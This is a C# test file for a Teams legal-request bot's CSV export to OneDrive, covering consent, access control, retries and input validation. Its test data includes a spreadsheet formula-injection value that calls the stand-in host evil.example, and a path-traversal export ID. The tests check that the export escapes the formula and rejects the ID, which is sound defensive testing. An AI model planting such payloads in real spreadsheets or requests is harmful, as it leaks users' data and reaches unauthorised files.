using System.Globalization;
using System.Text.Json.Nodes;
using LegalBot.Application.Export;
using LegalBot.Core.Export;
using LegalBot.Testing;
using LegalBot.Tests.Infrastructure;

namespace LegalBot.Tests.Export;

/// <summary>
/// <c>export</c> over real HTTP, through Teams' file consent flow as the fake channel plays it: the consent card, the
/// user's Accept or Decline as a <c>fileConsent/invoke</c>, the upload to the OneDrive session Teams hands out, and
/// the file card.
/// </summary>
public sealed class ExportTests : HostTestBase
{
    /// <summary>A firm name as a spreadsheet would run it (the roster is configuration, but text all the same).</summary>
    private const string FormulaFirm = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

    protected override IDictionary<string, string?>? Settings => new Dictionary<string, string?>
    {
        ["Metrics:OutsideCounselRates:nda"] = "400",
        ["Roles:Alsp:0:Firm"] = FormulaFirm,
    };

    private TeamsClient Staff => As(TeamsUser.LegalStaff);

    /// <summary>Says "export" (or more) and returns the message carrying the consent card.</summary>
    private static async Task<JsonObject> ConsentAsync(TeamsClient user, string text = "export")
    {
        var reply = await user.SayAsync(text);
        return Assert.Single(reply.FileConsents);
    }

    private static string ExportId(JsonObject consent) => (string)BotReplies.FileConsentOf(consent)["content"]!["acceptContext"]!["exportId"]!;

    [Fact]
    public async Task LegalStaff_AcceptTheConsentCard_GetTheCsvInTheirOneDrive_AndTheFileCard()
    {
        var id = await Scenarios.CompleteNdaAsync(Channel, As(TeamsUser.Requester), Staff, As(TeamsUser.Alsp));
        var open = await Scenarios.FileNdaAsync(As(TeamsUser.Requester), "Second NDA, still in triage");

        var asked = await Staff.SayAsync("export this quarter");
        var consent = Assert.Single(asked.FileConsents);
        var card = BotReplies.FileConsentOf(consent);
        var accepted = await Staff.AcceptFileAsync(consent);

        Assert.Equal("The export for this quarter holds 2 requests. Accept below to save it to your OneDrive.", Assert.Single(asked.Texts));
        Assert.Matches(@"^legal-requests-\d{4}-\d{2}-01-to-\d{4}-\d{2}-\d{2}\.csv$", (string?)card["name"]);
        Assert.Equal((string?)card["content"]!["acceptContext"]!.ToJsonString(), (string?)card["content"]!["declineContext"]!.ToJsonString());
        Assert.Equal(200, accepted.Status);
        var file = Assert.Single(Channel.OneDrive.Uploads);
        Assert.Equal((string?)card["name"], file.Name);

        // The consent card itself now says the file was sent (no buttons left to press).
        var settled = Assert.Single(Scenarios.UpdatesOf(Channel, TeamsUser.LegalStaff, (string)consent["id"]!));
        Assert.Equal($"Sent to your OneDrive: {file.Name} (2 requests).", (string?)settled["text"]);
        Assert.True(settled["attachments"] is null or System.Text.Json.Nodes.JsonArray { Count: 0 }, settled.ToJsonString());
        Assert.Equal((long)card["content"]!["sizeInBytes"]!, file.Bytes.LongLength);

        var rows = Rfc4180.ParseUtf8WithBom(file.Bytes);
        Assert.Equal(RequestsCsv.Headers, rows[0]);
        Assert.Equal(3, rows.Count);
        var done = Row(rows, id);
        Assert.Equal("NDA", done["Type"]);
        Assert.Equal("Completed", done["State"]);
        Assert.Equal("yes", done["On time"]);
        Assert.Equal("4", done["Hours"]);
        Assert.Equal("480", done["ALSP cost"]);
        Assert.Equal("1600", done["Outside counsel cost"]);
        Assert.Equal("1120", done["Saved"]);
        Assert.Equal(TeamsUser.Alsp.Name, done["Assignee"]);
        Assert.Equal("'" + FormulaFirm, done["Assignee firm"]);
        foreach (var column in new[] { "Filed (UTC)", "Triaged (UTC)", "Assigned (UTC)", "Accepted (UTC)", "Completed (UTC)" })
        {
            DateTime.ParseExact(done[column], CsvWriter.TimeFormat, CultureInfo.InvariantCulture);
        }

        DateOnly.ParseExact(done["Due date"], CsvWriter.DateFormat, CultureInfo.InvariantCulture);
        Assert.True(decimal.Parse(done["Turnaround (days)"], NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture) >= 0);
        var waiting = Row(rows, open);
        Assert.Equal("", waiting["Completed (UTC)"]);
        Assert.Equal("", waiting["On time"]);
        Assert.Equal("", waiting["Assignee"]);

        var info = Assert.Single(accepted.Replies.FileInfos);
        var uploadInfo = Channel.OneDrive.Offer(TeamsUser.LegalStaff, file.Name);
        Assert.Equal(file.Name, (string?)info["name"]);
        Assert.Equal(file.UniqueId, (string?)info["content"]!["uniqueId"]);
        Assert.Equal("csv", (string?)info["content"]!["fileType"]);
        Assert.Equal((string?)uploadInfo["contentUrl"], (string?)info["contentUrl"]);
        Assert.DoesNotContain(Logs.Entries, e => e.Message.Contains("/onedrive/upload/", StringComparison.Ordinal) || e.Message.Contains("Acme", StringComparison.Ordinal));
    }

    private static Dictionary<string, string> Row(IReadOnlyList<IReadOnlyList<string>> rows, string id)
    {
        var row = Assert.Single(rows, r => r[0] == id);
        return rows[0].Zip(row).ToDictionary(p => p.First, p => p.Second, StringComparer.Ordinal);
    }

    [Fact]
    public async Task ASecondAccept_OfTheSameCard_UploadsNothingMore()
    {
        var consent = await ConsentAsync(Staff);
        await Staff.AcceptFileAsync(consent);

        var again = await Staff.AcceptFileAsync(consent);

        Assert.Equal(200, again.Status);
        Assert.Single(Channel.OneDrive.Uploads);
        Assert.Equal(1, Channel.OneDrive.Requests);
        Assert.Equal("I've sent that export already: it's in your OneDrive. Type **export** for a fresh one.", Assert.Single(again.Replies.Texts));
        Assert.Empty(again.Replies.FileInfos);
    }

    [Fact]
    public async Task TwoAcceptsAtOnce_UploadOnce()
    {
        var consent = await ConsentAsync(Staff);

        var answers = await Task.WhenAll(Staff.AcceptFileAsync(consent), Staff.AcceptFileAsync(consent));

        Assert.All(answers, a => Assert.Equal(200, a.Status));
        Assert.Single(Channel.OneDrive.Uploads);
        Assert.Equal(1, Channel.OneDrive.Requests);
        Assert.Single(answers.SelectMany(a => a.Replies.FileInfos));
    }

    [Fact]
    public async Task Declining_IsAcknowledged_AndTheCardCannotBeAcceptedAfterwards()
    {
        var consent = await ConsentAsync(Staff);

        var declined = await Staff.DeclineFileAsync(consent);
        var late = await Staff.AcceptFileAsync(consent);

        Assert.Equal(200, declined.Status);
        Assert.Equal("OK, I won't send the export.", Assert.Single(declined.Replies.Texts));
        Assert.StartsWith("That export has expired.", Assert.Single(late.Replies.Texts), StringComparison.Ordinal);
        Assert.Equal(
            ["You declined this export; nothing was sent.", "This export offer has expired."],
            Scenarios.UpdatesOf(Channel, TeamsUser.LegalStaff, (string)consent["id"]!).Select(u => (string?)u["text"]));
        Assert.Empty(Channel.OneDrive.Uploads);
        Assert.Equal(0, Channel.OneDrive.Requests);
    }

    [Theory]
    [InlineData("requester")]
    [InlineData("alsp")]
    public async Task NobodyButLegalStaff_GetsAnExport(string who)
    {
        var user = As(who == "alsp" ? TeamsUser.Alsp : TeamsUser.Requester);

        var reply = await user.SayAsync("export last 7 days");

        Assert.Equal("Exports are for the legal team. Type **my requests** to see yours.", Assert.Single(reply.Texts));
        Assert.Empty(reply.FileConsents);
    }

    [Fact]
    public async Task SomeoneElse_AcceptingAnothersConsent_GetsNothing_AndTheOwnerStillCan()
    {
        var consent = await ConsentAsync(Staff);
        var context = BotReplies.FileConsentOf(consent)["content"]!["acceptContext"];

        var colleague = await As(TeamsUser.SecondLegalStaff).AnswerFileAsync("accept", context, Channel.OneDrive.Offer(TeamsUser.SecondLegalStaff, "x.csv"));
        var requester = await As(TeamsUser.Requester).AnswerFileAsync("accept", context, Channel.OneDrive.Offer(TeamsUser.Requester, "x.csv"));
        var declinedByOther = await As(TeamsUser.SecondLegalStaff).AnswerFileAsync("decline", context, null);

        Assert.Equal("This export was asked for by someone else. Type **export** for your own.", Assert.Single(colleague.Replies.Texts));
        Assert.Equal("Exports are for the legal team.", Assert.Single(requester.Replies.Texts));
        Assert.Equal(200, declinedByOther.Status);
        Assert.Equal(0, Channel.OneDrive.Requests);

        await Staff.AcceptFileAsync(consent);

        Assert.Single(Channel.OneDrive.Uploads);
    }

    [Theory]
    [InlineData("""{ "exportId": "0123456789abcdef0123456789abcdef" }""")]
    [InlineData("""{ "exportId": "../../state/a:personal" }""")]
    [InlineData("""{ "filename": "report.csv" }""")]
    [InlineData(null)]
    public async Task AnUnknownOrForeignContext_IsAnsweredClearly_AndUploadsNothing(string? context)
    {
        var answer = await Staff.AnswerFileAsync("accept", context is null ? null : JsonNode.Parse(context), Channel.OneDrive.Offer(TeamsUser.LegalStaff, "x.csv"));

        Assert.Equal(200, answer.Status);
        Assert.Equal("That export has expired. Type **export** (or **export this quarter**) for a new one.", Assert.Single(answer.Replies.Texts));
        Assert.Equal(0, Channel.OneDrive.Requests);
    }

    [Fact]
    public async Task AFailedUpload_IsToldPlainly_AndAcceptingAgainUploads()
    {
        var consent = await ConsentAsync(Staff);
        Channel.OneDrive.FailWith = 503;

        var failed = await Staff.AcceptFileAsync(consent);
        Channel.OneDrive.FailWith = null;
        var retried = await Staff.AcceptFileAsync(consent);

        Assert.Equal(200, failed.Status);
        Assert.Equal("I couldn't save the export to your OneDrive. Type **export** to try again.", Assert.Single(failed.Replies.Texts));
        Assert.Empty(failed.Replies.FileInfos);
        var logged = Assert.Single(Logs.Entries, e => e.EventId.Id == 1012);
        Assert.Equal("An export's upload to OneDrive failed: Refused (HTTP 503)", logged.Message);
        Assert.Single(retried.Replies.FileInfos);
        Assert.Single(Channel.OneDrive.Uploads);
    }

    [Fact]
    public async Task InAGroupChat_TheUserIsSentToThe1To1Chat()
    {
        var message = Staff.Message("export", null);
        message["conversation"] = new JsonObject { ["conversationType"] = "groupChat", ["tenantId"] = TeamsUser.DefaultTenant, ["id"] = "19:group-legal@thread.v2", ["isGroup"] = true };

        using var response = await Staff.PostAsync(message);

        response.EnsureSuccessStatusCode();
        var said = Assert.Single(Channel.Posted("19:group-legal@thread.v2"));
        Assert.Equal("Teams lets me send files only in our 1:1 chat: message me there and type **export**.", (string?)said["text"]);
        Assert.Empty(new BotReplies([said]).FileConsents);
    }

    [Fact]
    public async Task AnUnknownPeriod_IsExplained()
    {
        var reply = await Staff.SayAsync("export next decade");

        Assert.StartsWith("I can export the same periods as the metrics:", Assert.Single(reply.Texts), StringComparison.Ordinal);
        Assert.Empty(reply.FileConsents);
    }
}
